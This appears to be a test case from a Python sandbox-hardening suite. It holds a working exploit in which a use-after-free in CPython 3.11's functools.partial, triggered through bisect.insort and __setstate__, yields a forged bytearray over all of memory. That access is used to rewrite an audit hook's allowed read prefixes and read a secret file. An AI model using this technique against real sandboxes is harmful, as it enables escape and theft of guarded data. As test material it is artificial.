# expect: ok
# expect-kernel: ok|crashed|memory_limit
# value: 1
# A C `functools.partial` (CPython 3.11) calls its function with the stored arguments by borrowed references: the
# callee gets the partial's own tuple items, and nothing else holds them. `bisect.insort` of a list stored only in the
# partial, with a `key=` of the code's own: the key's first call (on the value to insert) sets the partial's state
# anew (`__setstate__`, which pickling uses), freeing the old arguments, the list and its table of items, while
# `insort` goes on bisecting that list. bytes objects of the table's size take the freed block, every slot naming a
# forged bytearray header (size 2**62, data at address 0) in a bytes object of the code's own, and the bisection hands
# it to the key: all memory, with no audit event. From there the hook's frozen read prefixes (the frame of a refusal
# it makes unreported hands them out) gain "/", and the secret file is read where the hook is what guards it. A
# partial's repr walks its arguments alike while their reprs run. With the hook a partial's call and repr hold what
# they pass, and since the fifty-ninth round a partial has no `__setstate__` (AttributeError: 1); without it native code
# is assumed anyway (the forged bytearray, or a crash: 1).
import bisect
import contextlib
import functools
import os

HELD = []  # the refilled table's blocks and what the key was handed, kept for good


def words(*values):
    return b"".join(value.to_bytes(8, "little") for value in values)


FORGED = words(1 << 20, id(bytearray), 1 << 62, (1 << 62) + 1, 0, 0, 0)  # refcount, type, size, room, data, start
REFILL = words(*[id(FORGED) + 32] * 1000)[:8000 - 33]  # a bytes object of the 1000-item table's size: every slot


class Handed(Exception):
    pass


class Key:
    def __call__(self, item):
        if not HELD:
            HELD.append("first")
            PARTIAL.__setstate__((bisect.insort, (), None, None))  # the old arguments, the list, its table: freed
            HELD.extend(bytes(memoryview(REFILL)) for _ in range(4))  # the table's block, refilled
            return 0
        HELD.append(item)
        raise Handed  # before `insort` inserts into the freed list


PARTIAL = functools.partial(bisect.insort, list(range(1000)))


def window():
    with contextlib.suppress(Handed, AttributeError):  # AttributeError: no `__setstate__` to call
        PARTIAL(5, key=Key())
    handed = HELD[-1]
    if type(handed) is bytearray and len(handed) == 1 << 62:
        return handed
    return None


def hook_frame():
    """The hook's frame, from a refusal it makes without a report (a hard link in the scratch)."""
    with open("a", "w"):
        pass
    try:
        os.link("a", "b")
    except OSError as exc:
        tb = exc.__traceback__
        while tb is not None:
            if tb.tb_frame.f_code.co_name == "hook":
                return tb.tb_frame
            tb = tb.tb_next
    return None


def check(secret_file, **p):
    frame = hook_frame()
    memory = window()
    if memory is None or frame is None:  # no hook here: native code is assumed anyway
        return 1
    prefixes, root = frame.f_locals["read_prefixes"], "/"
    memory[id(prefixes) + 24:id(prefixes) + 32] = id(root).to_bytes(8, "little")  # the prefixes' first item
    try:
        with open(secret_file) as fh:
            return "SANDBOX-ESCAPED a partial's arguments freed while it calls: " + fh.read()
    except OSError:
        return "SANDBOX-ESCAPED raw memory with the hook running, through a partial's arguments freed while it calls"
